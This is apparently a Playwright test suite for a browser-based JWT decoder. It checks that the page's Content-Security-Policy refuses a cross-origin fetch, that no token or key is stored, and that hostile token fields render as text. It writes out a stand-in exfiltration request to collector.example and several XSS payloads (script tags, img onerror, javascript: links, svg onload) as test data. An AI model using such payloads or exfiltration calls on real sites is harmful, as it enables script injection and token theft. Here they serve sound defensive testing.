import { createPrivateKey, generateKeyPairSync } from 'node:crypto';
import { readFileSync } from 'node:fs';
import type { BrowserContext, Page } from '@playwright/test';
import { SignJWT } from 'jose';
import { TEST_IDS } from '../src/ui/test-ids';
import { CONTENT_SECURITY_POLICY } from '../vite.config';
import { rawToken, SECRET, TYPICAL } from './tokens';
import { expect, test } from './fixtures';

test.describe('nothing leaves the page', () => {
  test('the built page carries the Content-Security-Policy, and it refuses a cross-origin fetch', async ({
    app,
    page,
  }) => {
    await app.open();
    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(csp).toBe(CONTENT_SECURITY_POLICY);
    expect(csp).toContain("connect-src 'self'");
    const violations: string[] = [];
    page.on('console', (m) => {
      if (m.text().includes('Content Security Policy')) violations.push(m.text());
    });
    // Route the request so that, were the policy missing, the test would see it succeed rather than time out.
    await page.route('https://collector.example/**', (route) =>
      route.fulfill({ status: 200, body: 'leaked' }),
    );
    const result = await page.evaluate(() =>
      fetch('https://collector.example/steal?token=x').then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(result).toBe('refused');
    expect(violations.join('\n')).toContain('connect-src');
  });

  test('the _headers file for static hosts has the same policy, and forbids framing', () => {
    const headers = readFileSync('dist/_headers', 'utf8');
    expect(headers).toContain(`Content-Security-Policy: ${CONTENT_SECURITY_POLICY}; frame-ancestors 'none'`);
    expect(headers).toContain('Referrer-Policy: no-referrer');
    expect(headers).toContain('X-Content-Type-Options: nosniff');
  });

  test('the nginx configuration for containers sends every header of _headers, with the same values', () => {
    const headers = readFileSync('public/_headers', 'utf8')
      .split('\n')
      .map((line) => /^\s+([\w-]+): (.+)$/.exec(line))
      .filter((match) => match !== null)
      .map(([, name, value]) => [name ?? '', value ?? ''] as const);
    expect(headers.length).toBeGreaterThanOrEqual(5);
    const nginx = readFileSync('docs/nginx.conf', 'utf8');
    for (const [name, value] of headers) {
      expect(nginx, name).toContain(`add_header ${name} "${value}" always;`);
    }
  });

  test('tokens naming keys by URL (jku, x5u) or an https issuer cause no request', async ({ app, page }) => {
    const requests: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    await app.open();
    const before = requests.length;
    await app.pasteToken(
      rawToken(
        '{"alg":"RS256","jku":"https://keys.example/jwks.json","x5u":"https://keys.example/cert.pem"}',
        '{"iss":"https://issuer.example","sub":"x"}',
      ),
    );
    await page.getByTestId('key-input').fill('{"keys":[]}');
    await expect(app.verifyStatus).not.toHaveAttribute('data-status', 'checking');
    // Lazy chunks of the app itself may load; nothing else may.
    const origin = new URL(page.url()).origin;
    expect(requests.slice(before).filter((u) => !u.startsWith(origin))).toEqual([]);
  });
});

test.describe('nothing is kept', () => {
  /** Everything the page could have stored, as one text: storage, IndexedDB, cookies, caches and the URL. */
  async function everythingStored(page: Page, context: BrowserContext): Promise<string> {
    const inPage = await page.evaluate(async () => {
      const dump = (storage: Storage) =>
        Object.keys(storage).map((key) => `${key}=${storage.getItem(key) ?? ''}`);
      const databases = await indexedDB.databases();
      const cached: string[] = [];
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        cached.push(...(await cache.keys()).map((request) => request.url));
      }
      return {
        local: dump(localStorage),
        session: dump(sessionStorage),
        databases: databases.map((db) => db.name ?? ''),
        cookie: document.cookie,
        cached,
        url: location.href,
        history: history.length,
      };
    });
    const cookies = await context.cookies();
    return JSON.stringify({ ...inPage, cookies });
  }

  test('after decoding and verifying, no token, secret or private key is in storage or the URL', async ({
    app,
    page,
    context,
  }) => {
    await app.open();
    const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const pem = privateKey.export({ format: 'pem', type: 'pkcs8' }).toString();
    const rsToken = await new SignJWT({ sub: 'stored?' })
      .setProtectedHeader({ alg: 'RS256' })
      .sign(createPrivateKey(pem));

    await app.pasteToken(TYPICAL);
    await page.getByTestId(TEST_IDS.keyInput).fill(SECRET);
    await expect(app.verifyStatus).toHaveAttribute('data-status', 'verified');
    // A preference may be kept: choosing a theme must not drag anything else along.
    await app.themeButton('Dark theme').click();
    await app.pasteToken(rsToken);
    await page.getByTestId(TEST_IDS.keyInput).fill(pem);
    await expect(app.verifyStatus).toHaveAttribute('data-status', 'verified');
    // Give a service worker or a debounced writer time to act.
    await page.waitForTimeout(500);

    const stored = await everythingStored(page, context);
    const pemBody = pem.split('\n')[1] ?? 'missing';
    for (const [what, value] of [
      ['HS256 token', TYPICAL],
      ['its payload segment', TYPICAL.split('.')[1] ?? 'missing'],
      ['RS256 token', rsToken],
      ['its signature', rsToken.split('.')[2] ?? 'missing'],
      ['HMAC secret', SECRET],
      ['private key', pemBody],
    ] as const) {
      expect(stored, what).not.toContain(value);
    }
    // The theme is the one thing remembered.
    expect(stored).toContain('mui-mode=dark');
    expect(page.url()).toBe(new URL('./', page.url()).href);
  });
});

test.describe('token contents are data', () => {
  const HOSTILE = {
    script: '<script>window.__xss = 1; alert(1)</script>',
    img: '<img src=x onerror="window.__xss = 2; alert(2)">',
    link: 'javascript:window.__xss=3;alert(3)',
    entities: '&lt;b&gt;bold&lt;/b&gt; &amp; &#x3C;i&#x3E;',
    svg: '<svg onload="window.__xss = 4"></svg>',
  };

  test('HTML, script and javascript: URLs in a token appear literally and run nothing', async ({
    app,
    page,
  }) => {
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await app.open();
    await app.pasteToken(
      rawToken(
        JSON.stringify({ alg: 'HS256', kid: HOSTILE.svg }),
        JSON.stringify({
          sub: HOSTILE.script,
          picture: HOSTILE.img,
          website: HOSTILE.link,
          bio: HOSTILE.entities,
        }),
      ),
    );
    await expect(app.headerJson).toContainText(HOSTILE.svg.replaceAll('"', '\\"'));
    for (const text of [HOSTILE.script, HOSTILE.img.replaceAll('"', '\\"'), HOSTILE.link, HOSTILE.entities]) {
      await expect(app.payloadJson).toContainText(text);
    }
    // A payload that is not JSON is shown as text, and a header that is not JSON in the error: never as markup.
    await app.pasteToken(rawToken('{"alg":"HS256"}', `${HOSTILE.img} not json`));
    await expect(app.payloadJson).toContainText(`${HOSTILE.img} not json`);
    await app.pasteToken(rawToken(`{"alg":"${HOSTILE.script}`, '{}'));
    await expect(app.decodeError).toBeVisible();
    await page.getByTestId(TEST_IDS.keyInput).fill(HOSTILE.svg);
    await page.waitForTimeout(300);

    await expect(
      page.locator('main img, main script, main svg[onload], main a[href^="javascript"]'),
    ).toHaveCount(0);
    expect(await page.evaluate(() => (window as { __xss?: number }).__xss)).toBeUndefined();
    expect(dialogs).toEqual([]);
  });
});
